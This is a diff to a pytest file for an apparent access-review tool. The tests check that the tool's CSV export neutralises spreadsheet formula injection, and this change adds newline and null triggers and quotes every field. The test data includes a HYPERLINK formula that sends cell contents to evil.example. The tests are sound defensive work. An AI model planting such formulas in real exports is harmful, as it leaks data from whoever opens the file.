@@ -17,7 +17,8 @@ import pytest
 
 import frontdoor.offline.preview
 from frontdoor.commands.cli import main
-from frontdoor.offline.report import AccessRow, csv_cell, render
+from frontdoor.domain.base.spreadsheet import csv_cell
+from frontdoor.offline.report import AccessRow, render
 
 HERE = Path(__file__).resolve().parent
 REPO = HERE.parents[1]
@@ -136,8 +137,9 @@ def _with_overrides(tmp_path: Path, text: str) -> Path:
             "github-oidc-trust-pinned, identity-monitors-present, inline-policy-size-limit, "
             "managed-policies-per-permission-set, no-iam-users, no-management-account-assignment, "
             "no-wildcard-inline-admin, okta-push-scope, permission-set-explicit-name, "
-            "posture-detectors-present, push-group-keeps-target, saml-certificate-expiry, "
-            "scim-token-expiry, scp-attachments-per-target, scp-deny-iam-users-at-root, scp-size-limit, "
+            "posture-detectors-present, privileged-worker-types, push-group-keeps-target, "
+            "saml-certificate-expiry, scim-token-expiry, scp-attachments-per-target, "
+            "scp-deny-iam-users-at-root, scp-size-limit, "
             "session-duration-limit, temporary-grant-expiry, unused-permission-set, "
             "vault-assumed-role-only, vault-ttl-limit (or all)",
         ),
@@ -250,7 +252,7 @@ def test_piping_into_head_is_not_a_traceback() -> None:
 # --- the SOC 2 export (item 13) -------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n", "\0"])
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(trigger: str) -> None:
     assert csv_cell(f'{trigger}HYPERLINK("https://evil.example/?"&A1)') == (
         f'\'{trigger}HYPERLINK("https://evil.example/?"&A1)'
@@ -279,8 +281,8 @@ def test_the_csv_export_carries_the_neutralised_members_rule() -> None:
     )
     lines = render([row], "csv").splitlines()
     assert lines[1] == (
-        "aws-quality-dev,DeveloperAccess,100000002009,payments-prod1,Workloads/Prod,PT1H,"
-        '"\'=HYPERLINK(""https://evil.example/?""&user.team)",synced,,'
+        '"aws-quality-dev","DeveloperAccess","100000002009","payments-prod1","Workloads/Prod","PT1H",'
+        '"\'=HYPERLINK(""https://evil.example/?""&user.team)","synced","",""'
     )
     # JSON and markdown are not spreadsheets: the value stays as written there.
     assert json.loads(render([row], "json"))[0]["members_rule"] == row.members_rule
